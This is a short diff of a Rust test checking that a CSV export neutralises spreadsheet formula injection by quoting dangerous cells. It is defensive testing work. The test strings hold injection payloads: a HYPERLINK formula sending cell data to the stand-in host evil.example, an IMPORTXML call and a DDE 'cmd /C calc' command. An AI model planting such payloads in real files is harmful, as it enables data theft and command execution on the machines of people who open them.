@@ -99,9 +99,9 @@ fn csv_cells_that_start_a_formula_get_a_leading_quote() {
     assert!(entities.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\","), "{entities}");
     assert!(entities.contains(",'-2+3,"), "{entities}");
     assert!(entities.contains(",'\t=IMPORTXML(A1),"), "{entities}");
-    assert!(entities.contains(",'+cmd|' /C calc'!A0;@SUM(1+1);'=already quoted;'plain\r\n"), "aliases are one cell, which starts with +: {entities}");
+    assert!(entities.contains(",'+cmd|' /C calc'!A0;@SUM(1+1);'=already quoted;'plain,"), "aliases are one cell, which starts with +: {entities}");
     let relations = csv::relations_csv(&data);
-    assert!(relations.ends_with(",\"'\r=1+1\"\r\n"), "{relations}");
+    assert!(relations.contains(",\"'\r=1+1\","), "the note, before the claim columns: {relations}");
     for line in entities.lines().chain(relations.lines()).skip(1) {
         for cell in line.split(',') {
             assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {line:?}");
